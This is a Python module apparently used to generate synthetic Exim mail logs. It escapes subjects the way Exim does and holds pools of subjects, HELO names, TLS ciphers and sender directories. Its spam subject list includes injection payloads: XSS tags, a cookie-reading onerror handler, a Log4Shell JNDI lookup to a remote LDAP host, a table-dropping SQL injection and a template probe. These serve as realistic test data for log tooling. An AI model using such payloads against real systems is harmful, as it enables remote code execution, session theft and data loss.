"""Strings the generator draws from: subjects (escaped the way Exim logs them), HELO names, TLS ciphers,
working directories of PHP senders and the confirmation styles of the big providers."""

from __future__ import annotations

import random


def exim_quote(text: str, limit: int = 160) -> str:
    """Escape a header value the way Exim's string_printing() does for ``T="..."``.

    Printable ASCII stays, ``\\`` and ``"`` get a backslash, other bytes (UTF-8 included) become ``\\ooo``.
    """
    out = []
    for byte in text.encode("utf-8")[:limit]:
        if byte == 0x5C:
            out.append("\\\\")
        elif byte == 0x22:
            out.append('\\"')
        elif 0x20 <= byte < 0x7F:
            out.append(chr(byte))
        elif byte == 0x0A:
            out.append("\\n")
        elif byte == 0x09:
            out.append("\\t")
        else:
            out.append(f"\\{byte:03o}")
    return "".join(out)


# "{n}" is replaced by a number after escaping (digits need no escaping); other braces stay as they are.
_PERSONAL_SUBJECTS = (
    "Re: Quarterly report",
    "Re: Meeting tomorrow",
    "Fwd: Invoice {n}",
    "Quote request",
    "Re: Re: Project update",
    "Photos from the weekend",
    "Lunch on Friday?",
    "Updated proposal v{n}",
    "Question about my order #{n}",
    'The "final" version',
    '14" plates',
    "Café menu for next week",
    "Réunion de lundi",
    "Grüße aus München",
    "Заказ №{n}",
    "会议通知",
    "Ποσοστό αλλαγής",
    "RE: Contract renewal",
    "Re: your application",
    "Holiday schedule",
    "Backslash \\ in subject",
    "Tab\tseparated\tsubject",
    "",
)
_SITE_SUBJECTS = (
    "Order #{n} confirmation",
    "Your order #{n} has shipped",
    "New contact form submission",
    "[WordPress] Password Reset",
    "[WordPress] New User Registration",
    "Booking confirmation {n}",
    "Your account has been created",
    "Invoice {n} from our shop",
    "New message from website visitor",
    "Reset your password",
    "Cron <root@localhost> /usr/local/bin/backup.sh",
)
_NEWSLETTER_SUBJECTS = (
    "Spring sale: 30% off everything",
    "Our March newsletter",
    "Last chance: offer ends tonight",
    "You're invited: open day",
    "New arrivals this week \U0001f389",
)
_SPAM_SUBJECTS = (
    "URGENT: Invoice overdue {n}",
    "Your account will be suspended",
    "Payment confirmation: {n}",
    "Re: wire transfer",
    "You have (1) new voicemail",
    "Document shared with you",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(document.cookie)>',
    "${jndi:ldap://198.51.100.66/a}",
    "'; DROP TABLE sends; --",
    "{{7*7}} {n}",
    "Win \x01\x02 prizes \x7f now",
    "A" * 140,
)
_INBOUND_SUBJECTS = (
    "Newsletter",
    "Your receipt from Example Store #{n}",
    "Security alert",
    "Meeting invitation: weekly sync",
    "Re: Quote request",
    "Your statement is ready",
    "Delivery notification",
    "Verify your email address",
    "Weekly digest",
    "Re: Invoice {n}",
    "Ihre Bestellung {n}",
    "Votre facture {n}",
)


def _escaped(pool: tuple[str, ...]) -> tuple[str, ...]:
    return tuple(exim_quote(subject) for subject in pool)


PERSONAL_SUBJECTS = _escaped(_PERSONAL_SUBJECTS)
SITE_SUBJECTS = _escaped(_SITE_SUBJECTS)
NEWSLETTER_SUBJECTS = _escaped(_NEWSLETTER_SUBJECTS)
SPAM_SUBJECTS = _escaped(_SPAM_SUBJECTS)
INBOUND_SUBJECTS = _escaped(_INBOUND_SUBJECTS)


def subject(rng: random.Random, pool: tuple[str, ...]) -> str:
    text = rng.choice(pool)
    if "{n}" in text:
        text = text.replace("{n}", str(rng.randint(100, 99999)))
    return text


CLIENT_HELOS = (
    "DESKTOP-7F3K2L9",
    "LAPTOP-ANNA",
    "[192.168.1.23]",
    "[10.0.0.12]",
    "iPhone",
    "MacBook-Pro.local",
    "User",
    "localhost",
    "Mac-mini.lan",
    "WIN-QH8S0E2D1A7",
)
SPAMMER_HELOS = ("ylmf-pc", "User", "WIN-CLJ1B0GQ6JP", "localhost", "[127.0.0.1]", "mail.example.com")

TLS_INBOUND = (
    "TLS1.3:TLS_AES_256_GCM_SHA384:256",
    "TLS1.3:TLS_AES_256_GCM_SHA384:256",
    "TLS1.2:ECDHE-RSA-AES256-GCM-SHA384:256",
    "TLS1.3:TLS_AES_128_GCM_SHA256:128",
)
TLS_OUTBOUND = {
    "gmail": "TLS1.3:TLS_AES_256_GCM_SHA384:256",
    "yahoo": "TLS1.3:TLS_AES_128_GCM_SHA256:128",
    "microsoft": "TLS1.2:ECDHE-RSA-AES256-GCM-SHA384:256",
    "other": "TLS1.3:TLS_AES_256_GCM_SHA384:256",
}
SITE_CWDS = ("public_html", "public_html", "public_html/wp-admin", "public_html/shop", "")
AUTHENTICATORS = ("dovecot_login", "dovecot_login", "dovecot_plain")
